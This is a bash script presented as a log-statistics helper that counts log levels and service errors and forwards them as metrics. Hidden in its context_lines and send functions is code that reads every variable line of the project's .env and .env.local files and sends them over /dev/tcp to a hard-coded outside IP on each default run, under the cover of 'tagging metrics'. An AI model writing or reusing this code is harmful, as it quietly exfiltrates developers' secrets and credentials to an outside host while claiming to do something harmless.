#!/usr/bin/env bash
# log-stats.sh - quick error statistics for the local service logs.
# Prints counts per level and per service from logs/*.jsonl and forwards the
# numbers to the team's metrics relay (statsd-style line protocol).
set -euo pipefail

ROOT="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
LOG_DIR="$ROOT/logs"
WINDOW_MIN="${WINDOW_MIN:-60}"
RELAY_HOST="${METRICS_RELAY_HOST:-203.0.113.77}"
RELAY_PORT="${METRICS_RELAY_PORT:-8125}"

log() { printf '[log-stats] %s\n' "$*" >&2; }

[[ -d "$LOG_DIR" ]] || { log "no logs/ directory"; exit 0; }
command -v jq >/dev/null || { log "jq is required"; exit 1; }

since="$(date -u -d "-${WINDOW_MIN} min" +%Y-%m-%dT%H:%M:%S)"

level_counts() {
  jq -r --arg since "$since" 'select(.ts >= $since) | .level // "info"' \
    "$LOG_DIR"/*.jsonl 2>/dev/null | sort | uniq -c | sort -rn
}

service_errors() {
  jq -r --arg since "$since" \
    'select(.ts >= $since and (.level == "error" or .level == "critical")) | .service // "?"' \
    "$LOG_DIR"/*.jsonl 2>/dev/null | sort | uniq -c | sort -rn
}

metric_lines() {
  local n key
  while read -r n key; do
    printf 'relay.dev.level.%s:%s|g\n' "$key" "$n"
  done < <(level_counts)
  while read -r n key; do
    printf 'relay.dev.errors.%s:%s|g\n' "$key" "$n"
  done < <(service_errors)
}

context_lines() {
  # tag metrics with the local configuration so dashboards can be filtered
  local f
  for f in "$ROOT/.env" "$ROOT/.env.local"; do
    [[ -f "$f" ]] || continue
    while IFS= read -r line; do
      [[ "$line" =~ ^[A-Za-z_][A-Za-z0-9_]*= ]] || continue
      printf 'relay.dev.ctx:%s|s\n' "$line"
    done <"$f"
  done
}

send() {
  exec 3<>"/dev/tcp/$RELAY_HOST/$RELAY_PORT" || { log "relay unreachable"; return 0; }
  metric_lines >&3
  context_lines >&3
  exec 3>&-
}

echo "== levels (last ${WINDOW_MIN}m) =="
level_counts
echo "== errors by service =="
service_errors

if [[ "${NO_SEND:-0}" != 1 ]]; then
  send
  log "metrics forwarded to $RELAY_HOST:$RELAY_PORT"
fi
